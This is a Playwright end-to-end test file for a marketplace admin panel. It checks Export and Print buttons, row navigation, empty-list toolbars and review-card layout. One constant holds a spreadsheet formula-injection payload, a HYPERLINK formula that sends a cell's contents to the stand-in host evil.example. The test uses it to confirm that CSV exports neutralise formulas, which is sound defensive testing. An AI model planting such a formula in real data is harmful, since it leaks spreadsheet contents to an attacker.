import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Browser, Page } from 'playwright-core';
import { signInBackOffice, snap } from '../support/browser';
import { useServerAndBrowser } from '../support/journey';
import { withoutLiveStreams } from '../support/layout';
import { RunningServer } from '../support/server';

const ADMIN = { email: 'lists-admin@bazaar.test', password: 'lists-pass-1' };
/** What an attacker types as a shipping name: a live formula in a spreadsheet unless neutralised. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

/** Every admin list of PRODUCT.md, by its path, how a row of it is found, and whether a row opens its record's page. */
const LISTS: { path: string; rows: string; opens: boolean }[] = [
  { path: 'users', rows: 'tbody tr', opens: true },
  { path: 'vendors', rows: 'tbody tr', opens: true },
  { path: 'providers', rows: 'tbody tr', opens: true },
  { path: 'products', rows: 'tbody tr', opens: true },
  { path: 'services', rows: 'tbody tr', opens: true },
  { path: 'bookings', rows: 'tbody tr', opens: true },
  { path: 'reviews', rows: '[data-testid="review"]', opens: false },
  { path: 'payouts', rows: 'tbody tr', opens: true },
  { path: 'orders', rows: 'tbody tr', opens: true },
  { path: 'rates', rows: 'tbody tr', opens: true },
  { path: 'contact-messages', rows: 'tbody tr', opens: true },
  { path: 'enquiries', rows: 'tbody tr', opens: true },
  { path: 'tickets', rows: 'tbody tr', opens: true },
];

/**
 * PRODUCT.md: Export and Print on every list. Each admin list (demo data, plus a payout, an
 * order, an enquiry, a contact message and a ticket made for it) has both: Export downloads a
 * CSV with at least the rows the page shows, Print opens the browser's print. A click on a
 * row opens that record's page on every list that has one.
 */
describe('admin lists: Export and Print, a row opens its record', () => {
  let server: RunningServer;
  let browser: Browser;
  let retailName: string;
  let orderNumber: string;

  useServerAndBrowser({ ADMIN_EMAIL: ADMIN.email, ADMIN_PASSWORD: ADMIN.password, SEED_DEMO: 'true', EARNINGS_CLEARING_HOURS: '0' }, (s, b) => {
    server = s;
    browser = b;
  });

  const api = async (path: string, init: { method?: string; body?: unknown; token?: string; headers?: Record<string, string> } = {}) => {
    const res = await fetch(`${server.url}/api${path}`, {
      method: init.method ?? 'GET',
      headers: { 'Content-Type': 'application/json', ...(init.token && { Authorization: `Bearer ${init.token}` }), ...init.headers },
      body: init.body === undefined ? undefined : JSON.stringify(init.body),
    });
    return { status: res.status, body: (await res.json()) as any };
  };

  beforeAll(async () => {
    // A customer's enquiry, order, ticket and contact message.
    const customer = (await api('/auth/signup', { method: 'POST', body: { name: 'Meera Iyer', email: 'meera.lists@example.in', password: 'copper-lotus-58' } })).body.accessToken as string;
    const wholesale = (await api('/products?category=wholesale&perPage=1')).body.items[0];
    expect((await api('/enquiries', { method: 'POST', token: customer, body: { productId: wholesale.id, quantity: 5, message: 'Price for 5 tonnes?' } })).status).toBe(201);
    const retail = (await api('/products?category=retail&city=Pune&perPage=1')).body.items[0];
    retailName = retail.name;
    const order = await api('/checkout', {
      method: 'POST',
      token: customer,
      headers: { 'Idempotency-Key': 'lists-order-0001' },
      body: { items: [{ productId: retail.id, quantity: 1 }], shippingAddress: { name: FORMULA_NAME, phone: '+91 98220 11111', line1: '14 FC Road', city: 'Pune', state: 'Maharashtra', pincode: '411004' }, paymentMethod: 'cod' },
    });
    expect(order.status).toBe(201);
    orderNumber = order.body.orderNumber;
    expect((await api('/me/tickets', { method: 'POST', token: customer, body: { subject: 'order issue', message: 'Where is my order?' } })).status).toBe(201);
    expect((await api('/contact', { method: 'POST', body: { name: 'Meera Iyer', email: 'meera.lists@example.in', subject: 'other', message: 'Do you deliver to Nashik?' } })).status).toBe(201);
    // A demo provider with a completed booking withdraws their earnings: a payout.
    const accounts = readFileSync(join(server.dataDir, 'demo-accounts.txt'), 'utf8');
    const providers = [...accounts.matchAll(/Demo service provider: .*\n {2}email: (\S+)\n {2}password: (\S+)/g)];
    let payouts = 0;
    for (const [, email, password] of providers) {
      const token = (await api('/auth/login', { method: 'POST', body: { email, password } })).body.accessToken as string;
      await api('/me/payout-details', { method: 'PUT', token, body: { method: 'upi', accountHolder: 'Demo Provider', upiId: 'demo.provider@okaxis' } });
      if ((await api('/admin/payouts', { method: 'POST', token })).status === 201) payouts++;
    }
    expect(payouts).toBeGreaterThan(0);
  }, 60_000);

  const adminPage = async (): Promise<Page> => {
    const page = await browser.newPage({ viewport: { width: 1366, height: 800 }, acceptDownloads: true });
    await withoutLiveStreams(page);
    // window.print opens a dialog headless Chromium cannot show: count the calls instead.
    await page.addInitScript(() => {
      (window as unknown as { printed: number }).printed = 0;
      window.print = () => void ((window as unknown as { printed: number }).printed += 1);
    });
    await signInBackOffice(page, server.url, ADMIN);
    return page;
  };

  it.each(LISTS)('$path has Export (a CSV of its rows) and Print', async ({ path, rows }) => {
    const page = await adminPage();
    await page.goto(`${server.url}/admin/${path}`);
    await page.locator(rows).first().waitFor();
    const shown = await page.locator(rows).count();
    const exportButton = page.getByRole('button', { name: 'Export', exact: true });
    const printButton = page.getByRole('button', { name: 'Print', exact: true });
    // The click waits for Export to be enabled (once the list's total is known), however long that takes.
    const [download] = await Promise.all([page.waitForEvent('download'), exportButton.click()]);
    expect(download.suggestedFilename()).toMatch(/\.csv$/);
    const csv = readFileSync((await download.path())!, 'utf8');
    const records = csv.trim().split('\n');
    expect(records.length - 1).toBeGreaterThanOrEqual(shown);
    expect(records[0]).toMatch(/^(\w+|"[^"]*")(,(\w+|"[^"]*"|[\w.]+))+/);
    await printButton.click();
    expect(await page.evaluate(() => (window as unknown as { printed: number }).printed)).toBe(1);
    if (path === 'reviews' || path === 'users') await snap(page, `lists-export-print-${path}`);
    await page.close();
  }, 60_000);

  // One sign-in for them all (sign-ins from one address are limited): a click on a cell with no link or button of its own.
  it("opens a row's record when the row is clicked, on every list with a page per record", async () => {
    const page = await adminPage();
    for (const { path, rows } of LISTS.filter((l) => l.opens)) {
      await page.goto(`${server.url}/admin/${path}`);
      const row = page.locator(rows).first();
      await row.waitFor();
      await row.locator('td:not(:has(a, button, input))').first().click();
      await page.waitForURL((url) => new RegExp(`^/admin/${path}/[^/]+/show$`).test(url.pathname)).catch(() => {
        throw new Error(`a row of /admin/${path} did not open its record (still on ${new URL(page.url()).pathname})`);
      });
      await page.locator('.RaShow-card').waitFor();
    }
    await page.close();
  }, 120_000);

  it('exports orders one row each, their items in one cell and a typed formula kept as text', async () => {
    const page = await adminPage();
    await page.goto(`${server.url}/admin/orders`);
    await page.locator('tbody tr').first().waitFor();
    const exportButton = page.getByTestId('orders-export');
    // The click waits for Export to be enabled (once the list's total is known), however long that takes.
    const [download] = await Promise.all([page.waitForEvent('download'), exportButton.click()]);
    expect(download.suggestedFilename()).toBe('orders.csv');
    const csv = readFileSync((await download.path())!, 'utf8');
    // No line break inside any cell here: one CSV line per order (the only order made for this file).
    const [header, ...rows] = csv.trimEnd().split('\r\n');
    expect(rows).toHaveLength(1);
    const columns = header.split(',');
    expect(columns).toEqual(expect.arrayContaining(['orderNumber', 'customerName', 'total', 'status', 'items', 'shippingAddress.name', 'shippingAddress.city']));
    expect(rows[0]).toContain(orderNumber);
    // Quoted (it holds commas and quotes) and prefixed with an apostrophe: text, not a formula.
    expect(rows[0]).toContain(`"'${FORMULA_NAME.replace(/"/g, '""')}"`);
    expect(rows[0]).not.toMatch(/(^|,)"?[=+@]/);
    expect(rows[0]).toContain(`1 x ${retailName}`);
    // Money with exactly two decimals, a plain number a spreadsheet sums (no grouping comma inside the cell).
    // The row's cells as a spreadsheet reads them (a quoted cell may hold commas).
    const row = [...rows[0].matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]);
    const cells = Object.fromEntries(columns.map((column, i) => [column, row[i]]));
    for (const money of ['subtotal', 'discount', 'deliveryFee', 'total']) expect(cells[money]).toMatch(/^\d+\.\d{2}$/);
    await page.close();
  }, 60_000);

  it('shows each review card whole (none squashed, no text cut off) at 1366 px', async () => {
    const page = await adminPage();
    await page.goto(`${server.url}/admin/reviews`);
    const cards = page.getByTestId('review');
    await cards.first().waitFor();
    expect(await cards.count()).toBeGreaterThan(3);
    const cut = await cards.evaluateAll((all) => all.filter((card) => card.scrollHeight > card.clientHeight + 1).map((card) => card.textContent?.slice(0, 40)));
    expect(cut).toEqual([]);
    await snap(page, 'reviews-cards-whole');
    await page.close();
  }, 60_000);
});

/**
 * A list with nothing in it keeps its toolbar: Export and Print there but disabled (nothing to
 * export or print), Create where the list has it, and the table's place saying it is empty.
 * react-admin's empty page replaced the whole list, toolbar included.
 */
describe('admin lists with nothing in them', () => {
  let server: RunningServer;
  let browser: Browser;

  useServerAndBrowser({ ADMIN_EMAIL: ADMIN.email, ADMIN_PASSWORD: ADMIN.password, SEED_DEMO: 'false' }, (s, b) => {
    server = s;
    browser = b;
  });

  it('keep Export and Print (disabled) and Create, with an empty message where the table goes', async () => {
    const page = await browser.newPage({ viewport: { width: 1366, height: 800 } });
    await withoutLiveStreams(page);
    await signInBackOffice(page, server.url, ADMIN);
    // Every list of LISTS but users (the admin is one) and reviews (a page of its own that always kept them); the newsletter's too.
    const empty = [...LISTS.map((l) => l.path).filter((path) => path !== 'users' && path !== 'reviews'), 'newsletter'];
    const problems: string[] = [];
    for (const path of empty) {
      await page.goto(`${server.url}/admin/${path}`);
      // The list's empty message (react-admin's own empty page, without the fix).
      await page.locator('[data-testid="empty-list"], .RaList-content .MuiCardContent-root, .RaEmpty-message').first().waitFor();
      const exportButton = page.getByRole('button', { name: 'Export', exact: true });
      const printButton = page.getByRole('button', { name: 'Print', exact: true });
      if (!(await exportButton.isVisible()) || (await exportButton.isEnabled())) problems.push(`${path}: Export missing or enabled`);
      if (!(await printButton.isVisible()) || (await printButton.isEnabled())) problems.push(`${path}: Print missing or enabled`);
      if (['vendors', 'products', 'services'].includes(path) && !(await page.getByRole('link', { name: /^Create|^Add/ }).first().isVisible())) problems.push(`${path}: no Create`);
      if (path === 'orders') {
        expect(await page.getByTestId('empty-list').innerText()).toContain('No orders found');
        await snap(page, 'lists-empty-orders-keeps-export-print');
      }
    }
    expect(problems).toEqual([]);
    await page.close();
  }, 90_000);
});
